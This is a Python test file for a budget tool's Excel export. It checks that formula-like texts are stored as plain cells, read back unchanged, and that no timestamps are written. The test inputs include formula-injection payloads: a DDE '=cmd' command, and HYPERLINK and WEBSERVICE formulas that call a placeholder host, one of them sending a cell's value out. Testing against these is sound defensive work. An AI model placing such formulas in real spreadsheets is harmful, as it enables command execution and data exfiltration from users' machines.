"""Texts that a spreadsheet would take for a formula stay texts in a workbook, and come back as they were."""

import io
import re
import zipfile
from typing import Any

import pytest

from budget_engine.files.sheets.excel_rules import parse_workbook, workbook_of
from tests.hostile_book import FILE, sound
from tests.small_rules import small_workbook

SIGNED = (
    "=1+1",
    "+31 6 12345678",
    "-5",
    "@SUM(A1)",
    "\t=1+1",
    '=HYPERLINK("https://voorbeeld.invalid/?x="&A1,"klik")',
    "=cmd|'/c calc'!A0",
    '=WEBSERVICE("https://voorbeeld.invalid")',
    "{=SUM(A1:A2)}",
    "='[ander.xlsx]Blad1'!A1",
    "'=1+1",
    "_x003D_1+1",
    "＝1+1",
)


def entries_with(text: str) -> list[Any]:
    """Put a text wherever the sound rules hold one."""
    entries = parse_workbook(sound(), FILE, FILE)[FILE].plain
    asked = {
        "feit": text, "voor": "zaak", "soort": "keuze", "vraag": text, "hulp": text, "keuzes": {text: text},
        "wie": [text, text], "noot": text,
    }  # fmt: skip
    return [*(_changed(entry, text) for entry in entries), asked]


_KEPT = frozenset(
    {"is", "geldig_van", "invoer", "uitvoer", "plaats", "leeftijd", "niet"}
)  # they name what is declared, or are no text


def _changed(plain: Any, text: str, name: str = "") -> Any:
    if isinstance(plain, dict):
        return {key: _changed(value, text, key) for key, value in plain.items()}
    if isinstance(plain, list):
        return plain if name in _KEPT else [_changed(item, text, name) for item in plain]
    return plain if name in _KEPT else text


@pytest.mark.parametrize("text", SIGNED)
def test_no_cell_of_an_exported_workbook_is_a_formula(text: str) -> None:
    entries = entries_with(text)

    content = workbook_of({FILE: entries})

    parts = zipfile.ZipFile(io.BytesIO(content))
    sheets = {name: parts.read(name).decode() for name in parts.namelist() if "worksheets/sheet" in name}
    assert len(sheets) > len({"lees mij", "keuzelijsten"})
    for sheet in sheets.values():
        assert not re.search(r"<(\w+:)?f[ />]", sheet)
        assert not re.search(r'<c [^>]*t="(str|e|b)"', sheet)
        for formula in re.findall(r"<formula[12]>(.*?)</formula", sheet):
            assert re.fullmatch(r"'?keuzelijsten'?!\$[A-Z]+\$[0-9]+:\$[A-Z]+\$[0-9]+", formula)
    assert b"<definedName " not in parts.read("xl/workbook.xml")
    assert not any(b"External" in parts.read(name) for name in parts.namelist() if name.endswith(".rels"))


@pytest.mark.parametrize("text", SIGNED)
def test_an_exported_workbook_reads_back_the_same(text: str) -> None:
    entries = entries_with(text)

    read = parse_workbook(workbook_of({FILE: entries}), FILE)

    assert read[FILE].plain == entries


def test_no_moment_of_writing_stands_in_a_workbook() -> None:
    with zipfile.ZipFile(io.BytesIO(small_workbook())) as archive:
        times = {part.date_time for part in archive.infolist()}
        properties = archive.read("docProps/core.xml").decode()

    assert times == {(1980, 1, 1, 0, 0, 0)}
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z?", properties)) == {"2000-01-01T00:00:00Z"}
